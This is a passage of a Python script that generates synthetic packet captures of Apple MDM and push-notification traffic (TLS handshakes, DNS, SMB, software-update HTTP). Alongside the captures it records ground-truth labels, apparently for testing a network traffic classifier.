    ch = client_hello(rng, "mdm.example.com", ["h2", "http/1.1"], tls13=True)
    sid = ch[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    m.send(t, True, ch)
    t += r2 + 0.0009
    t = m.send(t, False, server_hello_tls13(rng, sid) + CCS + tls13_appdata(rng, 2483))
    m.ack(t + 0.00004, True)
    t += 0.0062
    m.send(t, True, CCS + tls13_appdata(rng, 36))  # client Finished
    t += 0.0004
    m.send(t, True, tls13_appdata(rng, 612))  # PUT /mdm/connect  Status=Idle
    t += r2
    m.ack(t, False)
    t += 0.0006
    m.send(t, False, tls13_appdata(rng, 233) + tls13_appdata(rng, 233))  # 2 NewSessionTickets
    t += 0.0141
    t = m.send(t, False, tls13_appdata(rng, 1817))  # 200 + command plist (InstalledApplicationList)
    m.ack(t + 0.00005, True)
    t += 0.1862
    t = m.send(t, True, tls13_appdata(rng, 3904))  # PUT result, several segments
    m.ack(t + r2, False)
    t += r2 + 0.0213
    m.send(t, False, tls13_appdata(rng, 161))  # 200, empty body (no more commands)
    m.ack(t + 0.00004, True)
    t += 0.2113
    m.send(t, True, tls13_appdata(rng, 2))  # close_notify alert (encrypted)
    m.seg(t + 0.00002, True, "FA")
    t += r2
    m.send(t, False, tls13_appdata(rng, 2))
    m.seg(t + 0.00001, False, "FA")
    m.ack(t + 0.00006, True)
    return cap


def gen_blocked_syn() -> Capture:
    cap = Capture("blocked_syn.pcap", [(LT_ETHERNET, 6)], start_offset_s=7200)
    rng = cap.rng
    eth = Link("eth")
    blk = TcpFlow(cap, DEV4, 49901, COURIER_BLOCKED, 5223, eth,
                  "courier SYN to 17.57.146.21:5223 silently dropped: 4 SYNs (same seq) "
                  "retried after 1, 2, 4 s, never answered")
    for dt in (0.0, 1.0, 3.0, 7.0):
        blk.seg(dt + 0.000031, True, "S", seq=blk.c.isn)
    rej = TcpFlow(cap, DEV4, 49903, MDM, 8443, eth,
                  "SYN to the MDM server mdm.example.com:8443 answered by RST/ACK (port "
                  "closed / rejected)", s_ttl=63)
    rej.syn(8.4102)
    rej.s.nxt = 0
    rej.seg(8.4108, False, "RA", seq=0)
    fb = TcpFlow(cap, DEV4, 49905, COURIER_443, 443, eth,
                 "443 fallback: TLS 1.2 courier connection to 17.57.146.22:443 with SNI "
                 "courier.push.apple.com and ALPN apns-security-v3; connect + one keep-alive; "
                 "stays open")
    rtt = 0.0231
    t = courier_session(cap, fb, 10.6213, rtt)
    keepalive(fb, t + 41.2, rtt)
    return cap


def gen_site_mixed() -> Capture:
    cap = Capture("site_mixed.pcapng", [(LT_ETHERNET, 6), (LT_SLL, 9)], fmt="pcapng",
                  start_offset_s=10800)
    rng = cap.rng
    v20 = Link("eth", 0, vlans=((0x8100, 20, 0),))
    qinq = Link("eth", 0, vlans=((0x88A8, 100, 0), (0x8100, 20, 0)))
    sll = Link("sll", 1, c_mac=MACBOOK_MAC, s_mac=GW_MAC)

    dns6 = UdpFlow(cap, DEV6, 58812, "fd00:20::2", 53, qinq,
                   "DNS AAAA for 3-courier.push.apple.com over IPv6, QinQ (802.1ad 100 + 802.1Q 20) "
                   "in both directions")
    q = "3-courier.push.apple.com"
    dns6.send(0.0, True, dns_query(0x2B5D, q, 28))
    dns6.send(0.011204, False, dns_answer(0x2B5D, q, 28, [
        (5, 25, dns_name("americas-courier-6.push-apple.com.akadns.net")),
        (28, 15, bytes.fromhex("26200149 0a440000 00000000 00000010".replace(" ", "")))]))

    c6 = TcpFlow(cap, DEV6, 50233, COURIER6, 5223, v20,
                 "APNs courier over IPv6 to 2620:149:a44::10:5223 on VLAN 20: TLS 1.2 handshake, "
                 "connect, one keep-alive; stays open")
    rtt = 0.0188
    t = courier_session(cap, c6, 0.0137, rtt)
    keepalive(c6, t + 31.4, rtt)

    big = UdpFlow(cap, DEV4, 53390, RESOLVER, 53, v20,
                  "DNS TXT query for example.com; the ~1.9 KB EDNS answer arrives as two IPv4 "
                  "fragments (first counted under the ports, second skipped)")
    big.send(2.5, True, dns_query(0x6E02, "example.com", 16))
    txts = []
    for i in range(8):
        s = f"v=verify{i} " + rbytes(rng, 90).hex()
        s = s.encode()[:220]
        txts.append((16, 3600, vec8(s)))
    second = big.send_fragmented(2.5013, False, dns_answer(0x6E02, "example.com", 16, txts))
    cap.frames.remove(second)
    non_flow(cap, second, "second IPv4 fragment (offset 1480) of the TXT answer", "ip_fragment_nonfirst")

    # MacBook side, captured with tcpdump -i any (SLL, nanosecond timestamps)
    upd = TcpFlow(cap, MAC4, 51877, SWCDN, 80, sll,
                  "HTTP HEAD to updates-http.cdn-apple.com (17.253.5.206:80); client packets carry "
                  "an IPv4 Router Alert option (IHL 6); closed with FIN both ways", s_ttl=57)
    ra = [IPOption_Router_Alert()]
    r3 = 0.0093
    t0 = 1.2 + 0.000000417
    upd.syn(t0, ip_options=ra)
    upd.seg(t0 + r3, False, "SA")
    upd.ack(t0 + r3 + 0.000087, True, ip_options=ra)
    t = t0 + r3 + 0.000301
    upd.send(t, True, (b"HEAD /2025/macos/072-12345-20250303-abcdef/InstallAssistant.pkg HTTP/1.1\r\n"
                       b"Host: updates-http.cdn-apple.com\r\nUser-Agent: softwareupdated/6.0\r\n"
                       b"Accept: */*\r\n\r\n"), ip_options=ra)
    t += r3
    upd.send(t, False, (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                        b"Content-Length: 13474917154\r\nAccept-Ranges: bytes\r\n"
                        b"ETag: \"a3f1c2d4e5b6\"\r\nVia: http/1.1 defra1-edge-bx-031.ts.apple.com\r\n"
                        b"X-Cache: hit-fresh\r\n\r\n"))
    upd.ack(t + 0.000041, True, ip_options=ra)
    t += 0.0152
    upd.seg(t, True, "FA", ip_options=ra)
    upd.seg(t + r3, False, "FA")
    upd.ack(t + r3 + 0.000052, True, ip_options=ra)

    icmp_fl = TcpFlow(cap, MAC4, 51881, COURIER_ICMP, 5223, sll,
                      "courier SYN to 17.57.146.23:5223 answered only by ICMP destination "
                      "unreachable, communication administratively prohibited (3/13) from the "
                      "firewall 192.168.7.1")
    syn = icmp_fl.syn(4.0 + 0.000000093)
    syn_l3 = syn.data[16:]
    err = IP(src="192.168.7.1", dst=MAC4, ttl=255, id=0) / ICMP(type=3, code=13) / Raw(syn_l3)
    t_err = syn.t_ns + 412_337
    non_flow(cap, Frame(cap.quantize(t_err, 1), 1, sll.wrap(bytes(err), False, False)),
             "ICMP 3/13 quoting the SYN 192.168.7.23:51881 -> 17.57.146.23:5223",
             "icmp_error")
    return cap


def variety(name: str, link: Link, linktype: int, nsec: bool = False, big_endian: bool = False) -> Capture:
    """The same short exchange (SYN, SYN/ACK, ACK, ClientHello) on different link types."""
    cap = Capture(name, [(linktype, 9 if nsec else 6)], nsec=nsec, big_endian=big_endian,
                  start_offset_s=14400)
    rng = random.Random(f"{SEED}:variety")  # identical IP-level content in every variety file
    cap.rng = rng
    fl = TcpFlow(cap, DEV4, 50412, MDM, 8443, link,
                 "short TCP exchange to mdm.example.com:8443: handshake + TLS 1.3 ClientHello",
                 s_ttl=63)
    t = fl.handshake(0.000000123, 0.001107)  # the 123 ns survive only in the nanosecond file
    fl.send(t + 0.000702, True, client_hello(rng, "mdm.example.com", ["h2", "http/1.1"], tls13=True))
    if link.kind == "null":
        v6 = TcpFlow(cap, DEV6, 50413, "fd00:20::10", 8443, link,
                     "IPv6 SYN to [fd00:20::10]:8443 answered by RST/ACK (Darwin AF_INET6 = 30)",
                     s_ttl=64)
        v6.syn(0.5)
        v6.s.nxt = 0
        v6.seg(0.500391, False, "RA", seq=0)
    return cap


# --------------------------------------------------------------------------- site_categories
# One site's morning for the classification columns (category, classified_by, sni, alpn,
# server_name, http_*, tls_*, cert_issuer). The helpers below are new; the captures above
# use none of them, so their bytes are unchanged.

IPAD4 = "10.20.5.61"
IPAD_MAC = "f4:0f:24:8a:11:3c"  # Apple OUI
MACB4 = "10.20.5.52"
MINI6 = "2001:db8:20:5:8d2e:51c0:4f7a:e213"  # Mac mini, IPv6 only here
MINI_MAC = "a4:83:e7:19:5c:02"  # Apple OUI
RESOLVER6 = "2001:db8:20::53"
MDM_MAC = "b8:ca:3a:55:20:10"  # Dell OUI: the on-prem MDM server 10.20.0.10
SUS = "10.20.0.20"  # sus.example.com, legacy macOS Server Software Update Service
FS = "10.20.0.30"  # fs.example.com, SMB/AFP distribution point
DP = "10.20.0.40"  # dp.example.com, HTTP distribution point
APNS_API = "17.188.143.34"
ENROLL = "17.32.194.4"
IPROFILES = "17.32.194.8"
ICLOUD = "17.248.145.71"
SWCDN2 = "17.253.5.207"
# non-Apple public hosts: documentation ranges (RFC 5737 / RFC 3849)
JAMFCLOUD = "198.51.100.23"
SWSCAN_CDN = "198.51.100.77"
XMPP = "203.0.113.5"
WWW6 = "2001:db8:80::1"

# Certificate issuers, as cryptography's Name.rfc4514_string() prints them (most specific
# RDN first; DER stores them the other way round).
APPLE_SRV_AUTH_CA = "CN=Apple Server Authentication CA,OU=Certification Authority,O=Apple Inc.,C=US"
APPLE_ROOT = "CN=Apple Root CA,OU=Apple Certification Authority,O=Apple Inc.,C=US"
APPLE_ECC_CA = "CN=Apple Public Server ECC CA 12 - G1,O=Apple Inc.,ST=California,C=US"
APPLE_RSA_CA = "CN=Apple Public Server RSA CA 12 - G1,O=Apple Inc.,ST=California,C=US"
APPLE_ROOT_G3 = "CN=Apple Root CA - G3,OU=Apple Certification Authority,O=Apple Inc.,C=US"
DIGICERT_G2 = "CN=DigiCert Global Root G2,OU=www.digicert.com,O=DigiCert Inc,C=US"
SECTIGO_OV = ("CN=Sectigo RSA Organization Validation Secure Server CA,O=Sectigo Limited,"
              "L=Salford,ST=Greater Manchester,C=GB")
USERTRUST = "CN=USERTrust RSA Certification Authority,O=The USERTRUST Network,L=Jersey City,ST=New Jersey,C=US"
JSS_CA = "CN=JSS BUILT-IN CERTIFICATE AUTHORITY"
LE_R11 = "CN=R11,O=Let's Encrypt,C=US"
ISRG_X1 = "CN=ISRG Root X1,O=Internet Security Research Group,C=US"

DN_ATTRS = {"C": ("2.5.4.6", 0x13), "ST": ("2.5.4.8", 0x0C), "L": ("2.5.4.7", 0x0C),
            "O": ("2.5.4.10", 0x0C), "OU": ("2.5.4.11", 0x0C), "CN": ("2.5.4.3", 0x0C)}


def der_dn(rfc4514: str) -> bytes:
    """X.501 Name from an RFC 4514 string (values without escaped commas)."""
    rdns = []
    for part in reversed(rfc4514.split(",")):
        key, val = part.split("=", 1)
        oid, tag = DN_ATTRS[key]
        rdns.append(der_set(der_seq(der_oid(oid), der(tag, val.encode()))))
    return der_seq(*rdns)


def make_cert_dn(rng, subject: str, issuer: str, sans=(), ca=False, rsa_signed=False) -> bytes:
    """Like make_cert, with full distinguished names and the issuer's signature algorithm
    (sha256WithRSAEncryption, 2048-bit, or ecdsa-with-SHA256). Key and signature are random."""
    if rsa_signed:
        sig_alg, sig = der_seq(der_oid("1.2.840.113549.1.1.11"), der(0x05, b"")), rbytes(rng, 256)
    else:
        sig_alg, sig = der_seq(der_oid("1.2.840.10045.4.3.2")), ecdsa_sig(rng)
    spki = der_seq(der_seq(der_oid("1.2.840.10045.2.1"), der_oid("1.2.840.10045.3.1.7")),
                   der(0x03, b"\x00\x04" + rbytes(rng, 64)))
    exts = []
    if sans:
        exts.append(der_seq(der_oid("2.5.29.17"),
                            der(0x04, der_seq(b"".join(der(0x82, s.encode()) for s in sans)))))
    bc = der_seq(der(0x01, b"\xff")) if ca else der_seq()
    exts.append(der_seq(der_oid("2.5.29.19"), der(0x01, b"\xff"), der(0x04, bc)))
    tbs = der_seq(der(0xA0, der_int(2)), der_int(b"\x01" + rbytes(rng, 15)), sig_alg, der_dn(issuer),
                  der_seq(der(0x17, b"250102000000Z"), der(0x17, b"260202000000Z")),
                  der_dn(subject), spki, der(0xA3, der_seq(*exts)))
    return der_seq(tbs, sig_alg, der(0x03, b"\x00" + sig))


@dataclass
class Chain:
    """A server's certificate chain: leaf issued by `issuer`, plus that intermediate (only the
    courier chains send it here, to keep the capture small)."""
    leaf_subject: str
    sans: tuple
    issuer: str
    root: str
    rsa_issuer: bool = False  # the intermediate signs with RSA
    rsa_root: bool = False
    with_intermediate: bool = True

    def build(self, rng) -> list[bytes]:
        leaf = make_cert_dn(rng, self.leaf_subject, self.issuer, self.sans, rsa_signed=self.rsa_issuer)
        if not self.with_intermediate:
            return [leaf]
        return [leaf, make_cert_dn(rng, self.issuer, self.root, ca=True, rsa_signed=self.rsa_root)]


COURIER_CHAIN = Chain("CN=courier.push.apple.com,O=Apple Inc.,ST=California,C=US",
                      ("courier.push.apple.com", "*.push.apple.com", "*.courier.push.apple.com"),
                      APPLE_SRV_AUTH_CA, APPLE_ROOT, rsa_root=True)

DARWIN_SUITES = [0xC02C, 0xC02B, 0xCCA9, 0xC030, 0xC02F, 0xCCA8, 0xC00A, 0xC009, 0xC014, 0xC013,
                 0x009D, 0x009C, 0x0035, 0x002F]


def client_hello_ex(rng, sni: str | None, alpn: list[str] | None, tls13: bool,
                    suites: list[int] | None = None) -> bytes:
    """client_hello with optional SNI / ALPN and a chosen cipher-suite list."""
    if suites is None:
        suites = ([0x1301, 0x1302, 0x1303] if tls13 else []) + DARWIN_SUITES
    exts = []
    if sni:
        exts.append(ext(0x0000, vec16(u8(0) + vec16(sni.encode()))))
    exts += [ext(0x0017, b""), ext(0xFF01, b"\x00"),
             ext(0x000A, vec16(b"".join(u16(g) for g in (0x001D, 0x0017, 0x0018, 0x0019)))),
             ext(0x000B, vec8(b"\x00"))]
    if alpn:
        exts.append(ext(0x0010, vec16(b"".join(vec8(p.encode()) for p in alpn))))
    exts += [ext(0x0005, b"\x01\x00\x00\x00\x00"),
             ext(0x000D, vec16(b"".join(u16(s) for s in (
                 0x0403, 0x0804, 0x0401, 0x0503, 0x0203, 0x0805, 0x0501, 0x0806, 0x0601, 0x0201)))),
             ext(0x0012, b"")]
    if tls13:
        exts += [ext(0x0033, vec16(u16(0x001D) + vec16(rbytes(rng, 32)))),
                 ext(0x002D, vec8(b"\x01")),
                 ext(0x002B, vec8(u16(0x0304) + u16(0x0303)))]
    exts.append(ext(0x001B, vec8(u16(0x0001))))
    body = (u16(0x0303) + rbytes(rng, 32) + vec8(rbytes(rng, 32))
            + vec16(b"".join(u16(s) for s in suites)) + vec8(b"\x00") + vec16(b"".join(exts)))
    return tls_record(0x16, hs(1, body), version=0x0301)


def server_flight_tls12_ex(rng, alpn: str | None, chain: list[bytes]) -> bytes:
    """server_flight_tls12 with the ALPN extension only when the server selects a protocol."""
    exts = [ext(0xFF01, b"\x00"), ext(0x0017, b""), ext(0x000B, vec8(b"\x00"))]
    if alpn:
        exts.append(ext(0x0010, vec16(vec8(alpn.encode()))))
    sh = hs(2, u16(0x0303) + rbytes(rng, 32) + vec8(rbytes(rng, 32)) + u16(0xC02B) + b"\x00"
            + vec16(b"".join(exts)))
    cert = hs(11, vec24(b"".join(vec24(c) for c in chain)))
    ske = hs(12, b"\x03" + u16(0x001D) + vec8(rbytes(rng, 32)) + u16(0x0403) + vec16(ecdsa_sig(rng)))
    return tls_record(0x16, sh + cert + ske + hs(14, b""))


ALERT_HANDSHAKE_FAILURE = tls_record(0x15, b"\x02\x28")  # fatal(2), handshake_failure(40)

TRUTH_KEYS = ("category", "classified_by", "sni", "alpn", "server_name", "http_method", "http_host",
              "http_path", "http_user_agent", "http_status", "tls_version", "tls_alert", "cert_issuer")


def classify(fl: Flow, category: str, classified_by: str, **kw) -> Flow:
    """Record the classification truth; sni/alpn/http/tls fields are filled by the helpers
    that built the bytes, server_name by resolve_server_names()."""
    if not fl.extra:
        fl.extra = dict.fromkeys(TRUTH_KEYS)
    fl.extra.update(category=category, classified_by=classified_by, **kw)
    return fl


def note(fl: Flow, **kw):
    if not fl.extra:
        fl.extra = dict.fromkeys(TRUTH_KEYS)
    for k, v in kw.items():
        assert k in TRUTH_KEYS, k
        if fl.extra[k] is None:  # first ClientHello / request / response / alert wins
            fl.extra[k] = v


def send_split(fl: TcpFlow, t: float, data: bytes, cut: int, out_of_order: bool, gap: float = 0.000031):
    """One client message in two segments cut at `cut`; out_of_order: the tail arrives first."""
    base = fl.c.nxt
    head, tail = data[:cut], data[cut:]
    if out_of_order:
        fl.seg(t, True, "PA", tail, seq=(base + len(head)) & 0xFFFFFFFF)
        fl.seg(t + gap, True, "A", head, seq=base)
        fl.c.nxt = (base + len(data)) & 0xFFFFFFFF
    else:
        fl.seg(t, True, "A", head)
        fl.seg(t + gap, True, "PA", tail)


def tls_hello(fl: TcpFlow, t: float, sni, alpn, tls13: bool, *, suites=None, split=None) -> bytes:
    """Send a ClientHello (split=(cut, out_of_order) to spread it over two segments)."""
    ch = client_hello_ex(fl.cap.rng, sni, alpn, tls13, suites)
    if split:
        cut, ooo = split
        send_split(fl, t, ch, cut(ch), ooo)
    else:
        fl.send(t, True, ch)
    note(fl, sni=sni, alpn=",".join(alpn) if alpn else None)
    return ch


def mid_sni(name: str):
    """Cut position inside the server_name host name: the first segment ends mid-extension."""
    return lambda ch: ch.index(name.encode()) + len(name) // 2


def tls12_open(fl: TcpFlow, t: float, rtt: float, sni, alpn, server_alpn, chain: Chain, *,
               split=None, suites=None) -> float:
    """TCP + TLS 1.2 full handshake (ECDHE-ECDSA-AES128-GCM); returns the time it ends."""
    rng = fl.cap.rng
    t = fl.handshake(t, rtt) + 0.0009
    tls_hello(fl, t, sni, alpn, False, suites=suites, split=split)
    t += rtt * 0.55
    fl.ack(t, False)
    t += rtt * 0.5
    t = fl.send(t, False, server_flight_tls12_ex(rng, server_alpn, chain.build(rng)))
    note(fl, tls_version="TLS 1.2", cert_issuer=chain.issuer)
    fl.ack(t + 0.00006, True)
    t += 0.0031
    ck, sk = Tls12Keys(rng), Tls12Keys(rng)
    fl.send(t, True, tls_record(0x16, hs(16, vec8(rbytes(rng, 32)))) + CCS + ck.record(0x16, 16))
    t += rtt
    fl.send(t, False, CCS + sk.record(0x16, 16))
    fl.keys, fl.tls13 = (ck, sk), False
    return t


def tls13_open(fl: TcpFlow, t: float, rtt: float, sni, alpn, *, server_len=900, split=None) -> float:
    """TCP + TLS 1.3 handshake (certificate encrypted; ~0.9 KB with certificate compression,
    which the ClientHello offers); returns the time it ends."""
    rng = fl.cap.rng
    t = fl.handshake(t, rtt) + 0.0008
    ch = tls_hello(fl, t, sni, alpn, True, split=split)
    sid = ch[44:76]
    t += rtt + 0.0009
    t = fl.send(t, False, server_hello_tls13(rng, sid) + CCS + tls13_appdata(rng, server_len))
    note(fl, tls_version="TLS 1.3")
    fl.ack(t + 0.00004, True)
    t += 0.0041
    fl.send(t, True, CCS + tls13_appdata(rng, 36))  # client Finished
    fl.tls13 = True
    return t


def app(fl: TcpFlow, c2s: bool, plain_len: int, ctype: int = 0x17) -> bytes:
    if fl.tls13:
        return tls13_appdata(fl.cap.rng, plain_len)
    return fl.keys[0 if c2s else 1].record(ctype, plain_len)


def exchange(fl: TcpFlow, t: float, rtt: float, c_len: int, s_len: int, think: float = 0.004) -> float:
    """One request / response over TLS (record sizes = plaintext lengths); returns its end."""
    t = fl.send(t, True, app(fl, True, c_len))
    t += rtt
    fl.ack(t, False)
    t = fl.send(t + think, False, app(fl, False, s_len))
    fl.ack(t + 0.00005, True)
    return t + 0.00005


def tls_close(fl: TcpFlow, t: float, rtt: float):
    """close_notify with FIN in the same segment from the client, then the server; last ACK."""
    fl.seg(t, True, "FPA", app(fl, True, 2, 0x15))
    fl.seg(t + rtt, False, "FPA", app(fl, False, 2, 0x15))
    fl.ack(t + rtt + 0.00006, True)


def http_request(fl: TcpFlow, t: float, method: str, host: str, path: str, ua: str,
                 headers: str = "Accept: */*\r\n") -> float:
    req = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}User-Agent: {ua}\r\n"
           "Accept-Language: en-GB,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\n"
           "Connection: keep-alive\r\n\r\n").encode()
    note(fl, http_method=method, http_host=host, http_path=path, http_user_agent=ua)
    return fl.send(t, True, req)


def http_response(fl: TcpFlow, t: float, status: int, reason: str, headers: str, body: bytes,
                  content_length: int | None = None) -> float:
    n = len(body) if content_length is None else content_length
    resp = f"HTTP/1.1 {status} {reason}\r\n{headers}Content-Length: {n}\r\n\r\n".encode() + body
    note(fl, http_status=status)
    return fl.send(t, False, resp)


def tcp_close(fl: TcpFlow, t: float, rtt: float, client_first: bool = True):
    fl.seg(t, client_first, "FA")
    fl.seg(t + rtt, not client_first, "FA")
    fl.ack(t + rtt + 0.00005, client_first)


def dns_nxdomain(txid: int, qname: str, qtype: int, zone: str, mname: str, rname: str) -> bytes:
    """NXDOMAIN with the zone's SOA in the authority section (negative caching TTL)."""
    msg = struct.pack("!HHHHHH", txid, 0x8183, 1, 0, 1, 1) + dns_name(qname) + u16(qtype) + u16(1)
    soa = dns_name(mname) + dns_name(rname) + struct.pack("!IIIII", 2025031101, 7200, 3600, 1209600, 300)
    msg += dns_name(zone) + u16(6) + u16(1) + u32(300) + vec16(soa)
    return msg + b"\x00" + u16(41) + u16(4096) + u32(0) + u16(0)


def dns_lookup(cap: Capture, link: Link, client: str, port: int, t: float, qname: str, qtype: int,
               chain: list[str], addrs: list[str], *, rtt: float = 0.0014, nxdomain: str | None = None,
               ttl: int = 60) -> UdpFlow:
    """Query + answer: CNAMEs in `chain` (each the owner of the next), then A/AAAA `addrs`.
    Records (answer time, address, qname) for server_name; returns the flow."""
    resolver = RESOLVER6 if ":" in client else RESOLVER
    if nxdomain:
        what = f"DNS {'AAAA' if qtype == 28 else 'A'} {qname} -> NXDOMAIN (SOA {nxdomain})"
    else:
        what = (f"DNS {'AAAA' if qtype == 28 else 'A'} {qname}"
                + "".join(f" CNAME {c}" for c in chain) + " -> " + ", ".join(addrs))
    fl = UdpFlow(cap, client, port, resolver, 53, link, what)
    txid = cap.rng.getrandbits(16)
    fl.send(t, True, dns_query(txid, qname, qtype))
    if nxdomain:
        resp = dns_nxdomain(txid, qname, qtype, nxdomain, "ns1." + nxdomain, "hostmaster." + nxdomain)
    else:
        answers = [(5, 300, dns_name(c)) for c in chain]
        answers += [(qtype, ttl, ip4b(a) if qtype == 1 else ipaddress.IPv6Address(a).packed)
                    for a in addrs]
        resp = dns_answer(txid, qname, qtype, answers)
    ans = fl.send(t + rtt, False, resp)
    for a in addrs:
        cap.dns_names.append((ans.t_ns, a, qname))
    # Lookups of APNs names go with the APNs flows (nDPI calls them DNS.ApplePush): an admin
    # chasing a push failure needs to see them, e.g. when the resolver filters push.apple.com.
    if qname.endswith(".push.apple.com") or qname in ("courier.push.apple.com", "courier.sandbox.push.apple.com"):
        return classify(fl, "apns", "dns")
    return classify(fl, "dns", "port")


def resolve_server_names(cap: Capture):
    """server_name per the spec: SNI, else HTTP Host (without its :port), else the query name
    of a DNS answer for the server address seen before the flow's first frame (time-aware; the
    latest such answer)."""
    for fl in cap.flows:
        x = fl.extra
        first = min(f.t_ns for f in fl.frames)
        earlier = [name for t_ns, addr, name in sorted(cap.dns_names) if addr == fl.server_ip and t_ns < first]
        host = x["http_host"].rsplit(":", 1)[0] if x["http_host"] else None
        x["server_name"] = x["sni"] or host or (earlier[-1] if earlier else None)


def smb2_header(command: int, msg_id: int, response: bool) -> bytes:
    return (b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, command, 1 if response else 31,
                                     1 if response else 0, 0, msg_id, 0xFEFF, 0, 0) + b"\x00" * 16)


def nbss(msg: bytes) -> bytes:
    return b"\x00" + u24(len(msg)) + msg


def spnego_init() -> bytes:
    mechs = der_seq(der_oid("1.2.840.48018.1.2.2"), der_oid("1.2.840.113554.1.2.2"),
                    der_oid("1.3.6.1.4.1.311.2.2.10"))
    return der(0x60, der_oid("1.3.6.1.5.5.2") + der(0xA0, der_seq(der(0xA0, mechs))))


def smb_negotiate(smb: TcpFlow, t: float, r: float) -> float:
    """SMB2 NEGOTIATE request (dialects 2.0.2-3.0.2) and, r later, the response (3.0.2, SPNEGO
    blob); returns the time of the response's last segment."""
    rng = smb.cap.rng
    neg = (smb2_header(0, 0, False) + struct.pack("<HHHHI", 36, 4, 1, 0, 0x7F) + rbytes(rng, 16)
           + struct.pack("<Q", 0) + struct.pack("<HHHH", 0x0202, 0x0210, 0x0300, 0x0302))
    t = smb.send(t, True, nbss(neg))
    t += r
    blob = spnego_init()
    resp = (smb2_header(0, 0, True) + struct.pack("<HHHH", 65, 1, 0x0302, 0) + rbytes(rng, 16)
            + struct.pack("<IIIIQQHHI", 0x2F, 8388608, 8388608, 8388608, 133860872420000000, 0,
                          128, len(blob), 0) + blob)
    return smb.send(t, False, nbss(resp))


def dsi(flags: int, command: int, req_id: int, payload: bytes, error: int = 0) -> bytes:
    return struct.pack("!BBHIII", flags, command, req_id, error, len(payload), 0) + payload


SUCATALOG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
\t<key>CatalogVersion</key>
\t<integer>2</integer>
\t<key>ApplePostURL</key>
\t<string>http://swpost.apple.com/stats</string>
\t<key>IndexDate</key>
\t<date>2025-03-10T22:04:11Z</date>
\t<key>Products</key>
\t<dict>
\t\t<key>072-41235</key>
\t\t<dict>
\t\t\t<key>Packages</key>
\t\t\t<array>
\t\t\t\t<dict>
\t\t\t\t\t<key>URL</key>
\t\t\t\t\t<string>http://sus.example.com:8088/content/downloads/12/34/072-41235/abc123/Safari18.3SonomaAuto.pkg</string>
\t\t\t\t\t<key>Size</key>
\t\t\t\t\t<integer>121537194</integer>
\t\t\t\t</dict>
\t\t\t</array>
\t\t\t<key>PostDate</key>
\t\t\t<date>2025-01-27T18:05:52Z</date>
\t\t</dict>
\t</dict>
</dict>
</plist>
"""

MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
\t<key>items</key>
\t<array>
\t\t<dict>
\t\t\t<key>assets</key>
\t\t\t<array>
\t\t\t\t<dict>
\t\t\t\t\t<key>kind</key>
\t\t\t\t\t<string>software-package</string>
\t\t\t\t\t<key>url</key>
\t\t\t\t\t<string>http://dp.example.com/packages/Office.pkg</string>
\t\t\t\t</dict>
\t\t\t</array>
\t\t\t<key>metadata</key>
\t\t\t<dict>
\t\t\t\t<key>bundle-identifier</key>
\t\t\t\t<string>com.microsoft.package.Microsoft_Office</string>
\t\t\t\t<key>kind</key>
\t\t\t\t<string>software</string>
\t\t\t\t<key>title</key>
\t\t\t\t<string>Microsoft Office</string>
\t\t\t</dict>
\t\t</dict>
\t</array>
</dict>
</plist>
"""

SUS_UA = "Software%20Update (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0 (x86_64)"
MUNKI_UA = "managedsoftwareupdate/6.6.4 Darwin/23.4.0"
HTTP_DATE = "Date: Tue, 11 Mar 2025 08:14:{:02d} GMT\r\n"


def gen_site_categories() -> Capture:
    cap = Capture("site_categories.pcap", [(LT_ETHERNET, 6)], start_offset_s=-3600)
    cap.dns_names = []
    rng = cap.rng
    iphone = Link("eth", c_mac=IPHONE_MAC)
    ipad = Link("eth", c_mac=IPAD_MAC)
    mac_ = Link("eth", c_mac=MACBOOK_MAC)
    mini = Link("eth", c_mac=MINI_MAC)
    mdm_srv = Link("eth", c_mac=MDM_MAC)

    # -- iPhone: courier (SNI) ------------------------------------------------------------
    dns_lookup(cap, iphone, DEV4, 61201, 0.0, "31-courier.push.apple.com", 1,
               ["31.courier-push-apple.com.akadns.net"], [COURIER])
    cour = TcpFlow(cap, DEV4, 49812, COURIER, 5223, iphone,
                   "APNs courier: TLS 1.2, SNI courier.push.apple.com, ALPN apns-security-v3 (server "
                   "apns-pack-v1:4096:4096), leaf issued by Apple Server Authentication CA; connect, "
                   "filter, one push after the provider request; stays open. sni decides (courier SNI)")
    rtt = 0.0212
    t = tls12_open(cour, 0.0213, rtt, "courier.push.apple.com", ["apns-security-v3"],
                   "apns-pack-v1:4096:4096", COURIER_CHAIN)
    t = exchange(cour, t + 0.0019, rtt, 1291, 96)         # Connect / ConnectAck
    cour.send(t + 0.0012, True, app(cour, True, 168))     # Filter topics
    cour.ack(t + 0.0012 + rtt, False)
    classify(cour, "apns", "sni")

    # -- MDM server -> APNs provider API ----------------------------------------------------
    dns_lookup(cap, mdm_srv, MDM, 53012, 3.0, "api.push.apple.com", 1,
               ["api-vs.push-apple.com.akadns.net"], [APNS_API], rtt=0.0009)
    prov = TcpFlow(cap, MDM, 41874, APNS_API, 443, mdm_srv,
                   "APNs provider API from the MDM server: TLS 1.2 to api.push.apple.com:443, ALPN h2 "
                   "(server h2), leaf issued by Sectigo; HTTP/2 POST /3/device/<token> {\"mdm\":...}, "
                   "200; connection kept open. sni decides (api.push.apple.com)")
    r = 0.0187
    t = tls12_open(prov, 3.0021, r, "api.push.apple.com", ["h2"], "h2",
                   Chain("CN=api.push.apple.com,O=Apple Inc.,L=Cupertino,ST=California,C=US",
                         ("api.push.apple.com", "api.development.push.apple.com"),
                         SECTIGO_OV, USERTRUST, rsa_issuer=True, with_intermediate=False))
    t = exchange(prov, t + 0.0006, r, 388, 94)  # preface+SETTINGS+HEADERS+DATA / SETTINGS+HEADERS 200
    classify(prov, "apns", "sni")
    # the push reaches the iPhone's courier ~0.1 s later
    ck, sk = cour.keys
    tp = t + 0.1034
    cour.send(tp, False, sk.record(0x17, 209))
    cour.send(tp + 0.0213, True, ck.record(0x17, 38))
